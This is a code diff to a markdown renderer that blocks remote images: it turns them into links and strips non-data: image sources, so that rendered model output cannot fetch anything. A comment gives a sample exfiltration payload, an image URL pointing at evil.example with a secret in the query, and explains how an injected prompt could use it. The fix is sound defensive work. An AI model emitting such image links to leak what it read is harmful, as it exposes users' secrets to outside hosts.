@@ -31,6 +31,16 @@ const markdown = new Marked({
       const text = escapeHtml(token.text);
       return "block" in token && token.block ? `<p>${text.trimEnd()}</p>\n` : text;
     },
+    // A remote image is fetched by the browser as soon as it is drawn, with the page's Referer: a
+    // model (or a prompt injected into what it read) could report back what it saw in the URL,
+    // `![x](https://evil.example/leak?secret=…)`. It becomes a link the person chooses to open.
+    // Only a data: image, which fetches nothing, is drawn.
+    image({ href, title, text }: Tokens.Image): string {
+      const alt = text.trim();
+      if (/^data:image\/(png|gif|jpe?g|webp);/i.test(href)) return `<img src="${escapeHtml(href)}" alt="${escapeHtml(alt)}">`;
+      const label = `Image: ${alt || href}`;
+      return `<a href="${escapeHtml(href)}"${title ? ` title="${escapeHtml(title)}"` : ""} class="sb-image-link">${escapeHtml(label)}</a>`;
+    },
   },
 });
 
@@ -75,6 +85,9 @@ function getPurifier(): DOMPurify {
         node.setAttribute("rel", "noopener noreferrer nofollow");
       }
     }
+    // The renderer draws only data: images; an <img> with any other source (none should reach
+    // here) would fetch it on its own, so it loses its source.
+    if (node.nodeName === "IMG" && !/^data:image\//i.test(node.getAttribute("src") ?? "")) node.removeAttribute("src");
     // GFM task lists are the only inputs marked makes; anything else, or an enabled one, goes.
     if (node.nodeName === "INPUT") {
       if (node.getAttribute("type") !== "checkbox") node.remove();
